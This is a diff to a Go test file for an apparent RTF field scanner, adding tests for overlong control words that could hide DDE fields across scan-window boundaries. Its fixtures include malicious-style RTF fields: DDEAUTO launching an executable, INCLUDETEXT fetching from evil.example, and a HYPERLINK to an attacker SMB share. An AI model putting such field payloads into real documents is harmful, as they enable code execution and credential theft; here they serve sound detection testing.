@@ -42,6 +42,7 @@ func TestRTFFields(t *testing.T) {
 		{"fields nested past the bound", strings.Repeat(`{\field{\*\fldinst IF `, maxFieldNesting+1) + strings.Repeat("}}", maxFieldNesting+1), notRead},
 		{"a field left open", `{\field{\*\fldinst {INCLUDETEXT "http://evil.example/a"`, text}, // the last "}" closes only "{INCLUDETEXT"
 		{"HYPERLINK to a share", `{\field{\*\fldinst HYPERLINK "\\\\\\\\evil.example\\\\s\\\\x.xlsx"}{\fldrslt open}}`, share},
+		{"a control word longer than a window's tail", `{\field{\*\fldinst \b` + strings.Repeat("0", rtfTail) + ` DDEAUTO x}}`, notRead},
 		{"past the first window", strings.Repeat(`{\b x}`, scanWindow/6+100) + `{\field{\*\fldinst DDEAUTO x}}`, dde},
 	} {
 		cases = append(cases, classifyCase{name: c.name, data: []byte(rtfStart + c.body + "}"), filename: "a.rtf",
@@ -70,6 +71,25 @@ func TestRTFWindows(t *testing.T) {
 		scanStream(strings.NewReader(doc), int64(len(doc)), s.scan)
 		if len(codes) != 1 || !strings.HasPrefix(codes[0], "DDEAUTO ") {
 			t.Errorf("field cut at %d: codes %q", cut, codes)
+		}
+	}
+}
+
+// TestRTFLongControlWord: a control word whose letters or number run
+// past rtfTail could be cut by a window's end, the rest of it then read
+// as a code's text ("0000DDEAUTO" has no keyword): such a word makes the
+// document's fields not inspected, wherever the windows fall.
+func TestRTFLongControlWord(t *testing.T) {
+	for _, long := range []string{`\b` + strings.Repeat("0", 400), `\x` + strings.Repeat("a", 400)} {
+		field := `{\field{\*\fldinst ` + long + ` DDEAUTO c:\\x.exe}}`
+		for cut := -len(field) - 2; cut <= 2; cut++ {
+			pad := scanWindow + cut - len(`{\rtf1 `)
+			doc := `{\rtf1 ` + strings.Repeat("a", pad) + field + "}"
+			s := rtfScanner{field: func(string) {}}
+			scanStream(strings.NewReader(doc), int64(len(doc)), s.scan)
+			if !s.unknown {
+				t.Errorf("%.10s... cut at %d: fields read as inspected", long, cut)
+			}
 		}
 	}
 }
